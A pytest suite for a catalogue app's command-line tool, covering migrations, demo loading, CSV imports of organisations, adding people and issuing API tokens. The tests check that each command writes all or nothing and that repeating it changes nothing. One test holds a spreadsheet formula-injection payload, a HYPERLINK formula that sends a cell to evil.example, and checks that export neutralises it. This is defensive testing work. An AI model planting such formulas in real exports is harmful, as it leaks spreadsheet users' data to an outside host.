"""The commands that write, on both engines: all of it or nothing, and the same again changes nothing."""

from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select, text

from catalog.organisations.compact_csv import write_organisations
from catalog.organisations.organisation import Organisation, OrganisationKind
from plumbline.app import create_app
from plumbline.cli import main
from plumbline.kit.exports import to_csv
from plumbline.settings import Settings
from plumbline.storage.engine import Database
from plumbline.storage.migrate import downgrade, is_current
from plumbline.storage.tables import metadata
from tests.inline import InlineClient

Said = pytest.CaptureFixture[str]
PASSWORD = "four words in a row"


@pytest.fixture(autouse=True)
def _chosen(database: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    """Commands find the database in the environment, as an operator sets it."""
    monkeypatch.setenv("PLUMBLINE_DATABASE", database.url)
    monkeypatch.setenv("PLUMBLINE_NEW_PASSWORD", PASSWORD)


def _counts(database: Database) -> dict[str, int]:
    """How many rows each table holds."""
    with database.read() as db:
        return {
            name: db.execute(select(func.count()).select_from(table)).scalar_one()
            for name, table in metadata.tables.items()
        }


def _rows(database: Database, query: str) -> list[tuple[Any, ...]]:
    with database.engine.connect() as db:
        return [tuple(row) for row in db.execute(text(query))]


def test_migrate_brings_an_empty_database_to_the_newest_schema(database: Database, capsys: Said) -> None:
    """And does nothing the second time."""
    downgrade(database)
    assert main(["migrate"]) == 0
    assert is_current(database)
    assert main(["migrate", "--database", database.url]) == 0
    assert "newest schema" in capsys.readouterr().err


def test_a_schema_from_the_future_is_left_alone(database: Database, capsys: Said) -> None:
    """Exit code 3, with what to do."""
    with database.engine.begin() as db:
        db.execute(text("update alembic_version set version_num = 'tomorrow'"))
    assert main(["migrate"]) == 3
    assert "newer version" in capsys.readouterr().err
    assert _rows(database, "select version_num from alembic_version") == [("tomorrow",)]


def test_the_demonstration_is_loaded_once(database: Database, capsys: Said) -> None:
    """Everything the first time; the second says so and changes no table."""
    assert main(["demo"]) == 0
    assert "was loaded" in capsys.readouterr().out
    before = _counts(database)
    assert before["products"] > 20
    assert main(["demo"]) == 0
    assert "nothing was changed" in capsys.readouterr().out
    assert _counts(database) == before


def _organisation(code: str, name: str) -> Organisation:
    return Organisation(code=code, name=name, kind=OrganisationKind.TRUST)


GOOD = write_organisations([_organisation("ZZ8", "Made up"), _organisation("ZZ9", "Also made up")])
ANNOUNCED, HEADER, FIRST, SECOND = GOOD.splitlines(keepends=True)


def test_organisations_are_taken_in(database: Database, tmp_path: Path, capsys: Said) -> None:
    """With one line that says what changed; again, and nothing has."""
    file = tmp_path / "more.csv"
    file.write_bytes(GOOD)
    assert main(["import", "organisations", str(file)]) == 0
    assert "2 organisations added" in capsys.readouterr().out
    assert main(["import", "organisations", str(file)]) == 0
    assert "0 organisations added, 0 changed, 2 as they were" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("raw", "place", "words"),
    [
        (HEADER + FIRST + SECOND[:-12], "line 3, column ", "cut off"),
        (ANNOUNCED + HEADER + FIRST, "line 3, column 1", "cut off"),
        (HEADER + FIRST + SECOND.replace(b"Also", b"Caf\xe9"), "line 3, column 8", "UTF-8"),
        (HEADER + FIRST + SECOND.replace(b"Also", b"Al\x00so"), "line 3, column 2", ""),
        (HEADER + FIRST + b"ZZ7,too,few\n", "line 3, column ", ""),
        (HEADER + FIRST + FIRST, "line 3, column 1", ""),
        (b"", "line 1, column 1", "empty"),
    ],
    ids=["cut off", "fewer than announced", "not UTF-8", "NUL", "too few cells", "twice", "empty"],
)
def test_a_bad_file_is_refused_with_its_place(
    database: Database, tmp_path: Path, capsys: Said, raw: bytes, place: str, words: str
) -> None:
    """Exit code 3, line and column, and not a row of the good lines before it."""
    before = _counts(database)
    file = tmp_path / "bad.csv"
    file.write_bytes(raw)
    assert main(["import", "organisations", str(file)]) == 3
    said = capsys.readouterr()
    assert place in said.err
    assert words in said.err
    assert "Nothing was written" in said.err
    assert said.out == ""
    assert _counts(database) == before


def test_a_formula_is_a_name_like_any_other(database: Database, tmp_path: Path) -> None:
    """Stored as it was written, and harmless when it is taken away again."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Trust")'
    file = tmp_path / "formula.csv"
    file.write_bytes(write_organisations([_organisation("ZZ8", formula)]))
    assert main(["import", "organisations", str(file)]) == 0
    ((stored,),) = _rows(database, "select name from organisations where code = 'ZZ8'")
    assert stored == formula
    assert b"\"'=HYPERLINK(" in to_csv(["name"], [[stored]])


def test_a_catalogue_that_is_not_there_is_said_so(tmp_path: Path, database: Database, capsys: Said) -> None:
    """An empty folder is not taken for an empty catalogue."""
    before = _counts(database)
    assert main(["import", "buying-catalogue", str(tmp_path)]) == 3
    assert "cannot be read" in capsys.readouterr().err
    assert _counts(database) == before


def _me(database: Database, token: str) -> dict[str, Any]:
    with InlineClient(create_app(Settings(database=database.url))) as client:
        answer = client.get("/api/v1/me", headers={"authorization": f"Bearer {token}"})
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


def test_a_person_and_a_token_open_the_api(database: Database, tmp_path: Path, capsys: Said) -> None:
    """The token alone is on standard output, so that a script can keep it."""
    file = tmp_path / "more.csv"
    file.write_bytes(GOOD)
    main(["import", "organisations", str(file)])
    who = ["Bo@Example.org", "--name", "Bo Buyer", "--role", "buyer", "--organisation", "ZZ8"]
    assert main(["person", "add", *who]) == 0
    capsys.readouterr()
    assert main(["token", "bo@example.org", "--name", "nightly export", "--days", "7"]) == 0
    said = capsys.readouterr()
    token = said.out.removesuffix("\n")
    assert "\n" not in token
    assert token not in said.err
    me = _me(database, token)
    assert (me["name"], me["acting"]["role"]) == ("Bo Buyer", "buyer")
    assert me["acting"]["organisation"] == {"code": "ZZ8", "name": "Made up"}
    assert _rows(database, "select count(*) from events where action = 'token.made'") == [(1,)]


@pytest.mark.parametrize(
    ("more", "password", "words"),
    [
        (["--role", "assessor"], "short", "12"),
        (["--role", "buyer", "--organisation", "NOPE9"], PASSWORD, "NOPE9"),
        (["--role", "supplier", "--supplier", "nobody"], PASSWORD, "nobody"),
        (["--role", "buyer"], PASSWORD, "an organisation"),
    ],
    ids=["weak password", "no such organisation", "no such supplier", "a role without its party"],
)
def test_a_person_who_cannot_be_added_is_not_half_there(
    database: Database,
    monkeypatch: pytest.MonkeyPatch,
    capsys: Said,
    more: list[str],
    password: str,
    words: str,
) -> None:
    """Exit code 3; neither the person nor an event is left."""
    monkeypatch.setenv("PLUMBLINE_NEW_PASSWORD", password)
    before = _counts(database)
    assert main(["person", "add", "bo@example.org", "--name", "Bo", *more]) == 3
    assert words in capsys.readouterr().err
    assert _counts(database) == before


def test_tokens_for_nobody_and_for_ever_are_refused(database: Database, capsys: Said) -> None:
    """An unknown address, and more days than a token may live."""
    assert main(["token", "nobody@example.org", "--name", "x"]) == 3
    assert "nobody@example.org" in capsys.readouterr().err
    main(["person", "add", "ada@example.org", "--name", "Ada", "--role", "assessor"])
    before = _counts(database)
    assert main(["token", "ada@example.org", "--name", "x", "--days", "9999"]) == 3
    assert "365" in capsys.readouterr().err
    assert _counts(database) == before
    assert main(["person", "add", "ADA@example.org", "--name", "Ada", "--role", "assessor"]) == 3
    assert "already" in capsys.readouterr().err
    assert _counts(database) == before
